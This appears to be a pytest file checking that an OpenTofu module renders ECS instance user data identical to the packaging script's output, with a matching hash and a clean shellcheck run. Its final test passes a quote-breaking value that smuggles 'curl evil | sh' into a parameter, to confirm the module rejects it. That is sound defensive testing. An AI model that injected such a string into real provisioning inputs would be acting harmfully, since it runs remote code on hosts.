"""The user data the launch template gets is packaging/ecs/user-data.sh,
rendered by OpenTofu's templatefile through infrastructure/modules/
agent-user-data: byte for byte what the packaging tests render and run
(tests/packaging/test_userdata.py), and clean under shellcheck."""

import hashlib
import importlib.util
import json
import os
import shutil
import subprocess
import sys

import pytest

from infra import MODULES, ROOT, TOFU, TOOLS

SCRIPT = os.path.join(ROOT, "packaging", "ecs", "user-data.sh")

# Inputs as the ecs-cluster module passes them (lists), and as the
# packaging test's render() takes them (strings).
INPUTS = {
    "ecs_cluster": "live-chaos-comment-cluster",
    "ecs_config_extra": ["ECS_ENABLE_TASK_IAM_ROLE=true", "ECS_ENABLE_CONTAINER_METADATA=true"],
    "package_url": "s3://chaos-artifacts/chaos-agent-0.1.0-1.x86_64.rpm",
    "package_sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "key_parameter": "/live/chaos/agent_key",
    "agent_port": 8421,
    "listen_address": "",
    "allowed_cidrs": ["10.0.4.0/24", "10.0.5.0/24"],
    "aws_region": "us-east-1",
    "aws_endpoint": "",
}


def packaging_render():
    """render() of the packaging tests, imported from their file."""
    sys.path.insert(0, os.path.join(ROOT, "tests", "packaging"))
    sys.path.insert(0, os.path.join(ROOT, "tests", "lib"))
    try:
        spec = importlib.util.spec_from_file_location(
            "packaging_test_userdata", os.path.join(ROOT, "tests", "packaging", "test_userdata.py"))
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
    finally:
        del sys.path[:2]
    return mod.render, mod.INPUTS


def tofu_env(data_dir):
    env = dict(os.environ)
    env["TF_DATA_DIR"] = data_dir
    env["TF_CLI_CONFIG_FILE"] = os.path.join(TOOLS, "tofurc")
    env["TF_IN_AUTOMATION"] = "1"
    return env


def tofu_apply(tmp_path, module_inputs):
    """Apply a root module calling agent-user-data (no provider: it only
    renders) and return its outputs."""
    root = tmp_path / "root"
    root.mkdir()
    # A relative source: OpenTofu uses a local module in place (an absolute
    # one it copies, and the default template path would not resolve).
    call = {"source": os.path.relpath(os.path.join(MODULES, "agent-user-data"), root)}
    call.update(module_inputs)
    (root / "main.tf.json").write_text(json.dumps({
        "module": {"ud": call},
        "output": {k: {"value": "${module.ud.%s}" % k} for k in ("user_data", "template_sha256")},
    }))
    env = tofu_env(str(tmp_path / "data"))
    for args in (["init", "-input=false"], ["apply", "-input=false", "-auto-approve"]):
        r = subprocess.run([TOFU, "-chdir=%s" % root] + args + ["-no-color"], env=env,
                           capture_output=True, text=True)
        assert r.returncode == 0, "tofu %s failed:\n%s%s" % (args[0], r.stdout, r.stderr)
    r = subprocess.run([TOFU, "-chdir=%s" % root, "output", "-json"], env=env,
                       capture_output=True, text=True, check=True)
    return {k: v["value"] for k, v in json.loads(r.stdout).items()}


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    assert os.access(TOFU, os.X_OK), "%s missing: run scripts/install-infra-tools.sh" % TOFU
    return tofu_apply(tmp_path_factory.mktemp("ud"), INPUTS)


def test_user_data_is_what_the_packaging_tests_render(rendered):
    render, names = packaging_render()
    assert set(names) == set(INPUTS)
    as_strings = {k: (" " if k == "allowed_cidrs" else "\n").join(v) if isinstance(v, list) else str(v)
                  for k, v in INPUTS.items()}
    expected = render(as_strings)
    assert rendered["user_data"] == expected
    assert "ECS_CLUSTER='live-chaos-comment-cluster'" in rendered["user_data"]


def test_the_template_is_the_packaging_script(rendered):
    with open(SCRIPT, "rb") as f:
        assert rendered["template_sha256"] == hashlib.sha256(f.read()).hexdigest()


def test_rendered_user_data_passes_shellcheck(rendered, tmp_path):
    shellcheck = shutil.which("shellcheck")
    assert shellcheck, "shellcheck missing (scripts/install-deps.sh installs it)"
    path = tmp_path / "user-data.sh"
    path.write_text(rendered["user_data"])
    r = subprocess.run([shellcheck, "--shell=bash", "--severity=style", str(path)],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stdout + r.stderr


def test_a_quote_in_an_input_never_reaches_the_script(tmp_path):
    with pytest.raises(AssertionError) as e:
        tofu_apply(tmp_path, dict(INPUTS, key_parameter="/live/x'; curl evil | sh; '"))
    assert "key_parameter" in str(e.value)
